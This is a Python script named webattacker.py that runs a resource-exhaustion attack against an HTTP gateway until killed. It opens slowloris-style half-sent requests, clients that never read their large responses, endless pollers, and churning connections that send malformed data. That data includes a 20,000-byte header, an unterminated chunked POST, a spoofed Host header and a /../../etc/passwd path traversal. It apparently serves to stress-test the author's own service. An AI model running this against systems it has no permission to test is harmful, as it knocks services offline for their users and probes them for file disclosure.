"""Attack a gateway until killed, as fast as one processor can: webattacker.py IP:PORT.

Forty clients leave their head half sent, thirty never read what they asked for, ten ask without
end, and the rest of the time new ones come with garbage, with heads that are too long, and leave.
"""

import contextlib
import itertools
import select
import socket
import sys

HALVES, DEAF, CALLERS, CHURN = 40, 30, 10, 8
HALF = b"GET /v1/sta"
LONG = [
    b"/metrics", b"/v1/status?all=1", b"/v1/watch", b"/v1/events?last=1000", b"/v1/logs?last=1000",
    b"/v1/deps",
]  # fmt: skip
QUICK = [b"/healthz", b"/v1/status", b"/metrics", b"/v1/plan", b"/../../etc/passwd", b"/readyz"]
GARBAGE = [
    b"\0" * 64,
    b"GET / HTTP/1.1\r\nX: " + b"y" * 20_000,
    b"POST /v1/apply HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"GET /v1/status HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    b"",
]


def request(path: bytes) -> bytes:
    """Write a request."""
    return b"GET %s HTTP/1.1\r\nHost: localhost\r\n\r\n" % path


def connect(address: tuple[str, int], *, deaf: bool = False) -> socket.socket:
    """Begin to connect."""
    client = socket.socket()
    client.setblocking(False)
    if deaf:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    with contextlib.suppress(BlockingIOError):
        client.connect(address)
    return client


def attack(address: tuple[str, int]) -> None:
    """Keep all kinds of clients busy, and replace those that were turned away."""
    long, quick, garbage = map(itertools.cycle, (LONG, QUICK, GARBAGE))
    kept: dict[int, tuple[socket.socket, bytes]] = {}  # those that say one thing and then nothing
    callers: dict[int, socket.socket] = {}
    passing: list[socket.socket] = []
    poll = select.epoll()

    def begin(data: bytes, *, deaf: bool) -> None:
        client = connect(address, deaf=deaf)
        kept[client.fileno()] = client, data
        poll.register(client, select.EPOLLOUT | select.EPOLLONESHOT)

    while True:
        halves = sum(data == HALF for _, data in kept.values())
        for _ in range(HALVES - halves):
            begin(HALF, deaf=False)
        for _ in range(DEAF - (len(kept) - halves)):
            begin(request(next(long)), deaf=True)
        for _ in range(CALLERS - len(callers)):
            client = connect(address)
            callers[client.fileno()] = client
            poll.register(client, select.EPOLLOUT | select.EPOLLONESHOT)
        for client in passing:
            with contextlib.suppress(OSError):
                client.send(next(garbage))
            client.close()
        passing = [connect(address) for _ in range(CHURN)]
        for fd, events in poll.poll(0.01):
            if fd in callers:
                _go_on(callers, fd, request(next(quick)), poll)
            elif events & (select.EPOLLERR | select.EPOLLHUP | select.EPOLLRDHUP):
                kept.pop(fd)[0].close()
            else:
                client, data = kept[fd]
                with contextlib.suppress(OSError):
                    client.send(data)
                poll.modify(fd, select.EPOLLRDHUP)  # what it would read stays where it is


def _go_on(callers: dict[int, socket.socket], fd: int, data: bytes, poll: select.epoll) -> None:
    """Read what came, and ask again."""
    client = callers[fd]
    try:
        with contextlib.suppress(BlockingIOError):
            if not client.recv(1 << 18):
                raise ConnectionError
        client.send(data)
        poll.modify(fd, select.EPOLLIN | select.EPOLLONESHOT)
    except BlockingIOError:
        poll.modify(fd, select.EPOLLIN | select.EPOLLONESHOT)
    except OSError:
        client.close()
        del callers[fd]


if __name__ == "__main__":
    host, _, port = sys.argv[1].rpartition(":")
    attack((host, int(port)))
